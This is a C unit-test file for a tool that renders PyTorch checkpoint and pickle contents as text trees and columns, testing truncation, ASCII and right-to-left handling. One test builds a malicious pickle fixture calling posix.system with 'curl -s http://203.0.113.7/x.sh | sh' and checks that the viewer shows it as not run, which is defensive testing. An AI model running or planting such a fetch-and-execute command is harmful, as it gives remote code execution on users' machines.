#include "rows/textual.h"

#include "base/base.h"
#include "base/test.h"
#include "rows/sample_rows.h"
#include "text/width.h"

static const struct view everything = VIEW_INIT;

TEST(narrow_shapes_keep_their_last_dimensions)
{
    struct view tensors = VIEW_INIT;
    struct sample s;

    tensors.flat = FLAT_TENSORS;
    sample_begin(&s, "narrow.pt");
    sample_dotted(&s, "features.0.conv.weight", "512 256 56 56");
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &tensors, 60),
              "▪ features.0.conv.weight  512×256×56×56 … [411.0M params]\n");
    CHECK_STR(sample_tree(&s, &tensors, 50),
              "▪ features.0.conv.weight  …×56×56 [411.0M params]\n");
    CHECK_STR(sample_tree(&s, &tensors, 38),
              "▪ …tures.0.conv.weight [411.0M params]\n");
    s.ascii = true;
    CHECK_STR(sample_tree(&s, &tensors, 50),
              "* features.0.conv.weight  ~x56x56 [411.0M params]\n");
    sample_release(&s);
}

TEST(cells_of_shapes_are_compared_by_their_numbers)
{
    static const int64_t small[] = {1, 8, 4}, large[] = {1, 8, 8}, again[] = {1, 8, 4};
    struct buf text = BUF_INIT;
    struct figure a = {.text = &text, .kind = FIGURE_SHAPE}, b = a;

    CHECK(figure_same_shape(&a, &b)); /* neither has one */
    figure_shape(&a, small, 3);
    CHECK(!figure_same_shape(&a, &b));
    figure_shape(&b, again, 3);
    CHECK(figure_same_shape(&a, &b));
    b.varied = true;
    CHECK(!figure_same_shape(&a, &b));
    b.varied = false;
    figure_shape(&b, large, 3);
    CHECK(!figure_same_shape(&a, &b));
    figure_shape(&b, again, 2);
    CHECK(!figure_same_shape(&a, &b));
    figure_text(&b, "not called");
    CHECK(!figure_same_shape(&b, &b));
    buf_release(&text);
}

TEST(text_that_is_wider_in_ascii_is_cut_to_its_column)
{
    const unsigned widths[] = {40, 60, 80, 90};
    struct sample s;

    sample_begin(&s, "ascii.pt");
    sample_dotted(&s, "卷积卷积卷积卷积卷积.加权加权加权加权", "3 3");
    sample_dotted(&s, "b.weight", "3 3");
    sample_finish(&s);
    s.ascii = true;
    for (size_t i = 0; i < COUNT_OF(widths); i++) {
        struct str lines = str_of(sample_tree(&s, &everything, widths[i])), line;

        while (str_split(&lines, '\n', &line))
            CHECK(line.len <= widths[i]);
    }
    CHECK_STR(sample_tree(&s, &everything, 40),
              "ascii.pt: dict with 2 keys\n"
              "|-- 18 parameters\n"
              "|-- \\u5377\\u79ef~\\u5377\\u79ef [9 params]\n"
              "`-- b [9 params]\n");
    sample_release(&s);
}

TEST(right_to_left_names_are_isolated_on_request)
{
    struct sample s;

    sample_begin(&s, "right.pt");
    sample_dotted(&s, "שלום.weight", "3 3");
    sample_dotted(&s, "b.weight", "3 3");
    sample_finish(&s);
    s.isolate = true;
    CHECK_STR(
        sample_tree(&s, &everything, 0),
        "right.pt: dict with 2 keys 18 100% 72B\n"
        "├── \xe2\x81\xa8שלום\xe2\x81\xa9                    9  50% 36B | weight: 3×3\n"
        "└── b                       9  50% 36B | weight: 3×3\n");
    sample_release(&s);
}

TEST(guides_never_take_more_than_half_of_the_line)
{
    struct sample s;
    struct str lines, line;
    uint32_t place = 0;

    sample_begin(&s, "deep.pt");
    for (int i = 0; i < 100; i++)
        place = sample_module(&s, place, "a", "Block", "");
    sample_tensor(&s, place, "weight", "3");
    sample_finish(&s);
    for (unsigned width = 40; width <= 160; width += 40) {
        lines = str_of(sample_tree(&s, &everything, width));
        while (str_split(&lines, '\n', &line))
            CHECK(text_width(line) <= width);
    }
    sample_release(&s);
}

TEST(narrow_rows_keep_the_note_not_called)
{
    struct sample s;
    struct values *values;
    uint32_t run[1];

    sample_begin(&s, "bad.pkl");
    values = build_values(&s.build);
    run[0] = value_str(values, STR("curl -s http://203.0.113.7/x.sh | sh"));
    CHECK(build_pickle_global(&s.build, STR("posix.system"), 5) == 0);
    sample_plain(&s, 0, "best_acc1",
                 value_make(values, VALUE_CALL, STR("posix.system"), run, 1));
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 50),
              "bad.pkl: dict with 1 key\n"
              "├── 0 parameters\n"
              "└── ✗ best_acc1: posix.system(\"curl -s …   not run\n");
    sample_release(&s);
}

TEST(a_wide_column_of_text_is_cut_before_columns_go)
{
    const struct column *const chosen[] = {
        column_find(STR("path")), column_find(STR("shape")), column_find(STR("dtype"))};
    struct view view = VIEW_INIT;
    struct textual what = {.columns = chosen, .n_columns = 3, .width = 80};
    struct buf text = BUF_INIT;
    struct rows rows;
    struct sample s;
    struct out out;

    view.flat = FLAT_TENSORS;
    sample_begin(&s, "wide.pt");
    sample_dotted(&s, "encoder.layers.attention.self.output.projection.weight", "3 4");
    sample_finish(&s);
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    what.show = &s.show;
    what.rows = &rows;
    out_init_buf(&out, &text);
    CHECK(textual_wide(&out, &what, NULL) == 0);
    CHECK(out_release(&out) == 0);
    CHECK_STR(buf_cstr(&text),
              "▪ weight  3×4 float32    "
              "…rs.attention.self.output.projection.weight 3×4 float32\n");
    buf_release(&text);
    sample_release(&s);
}
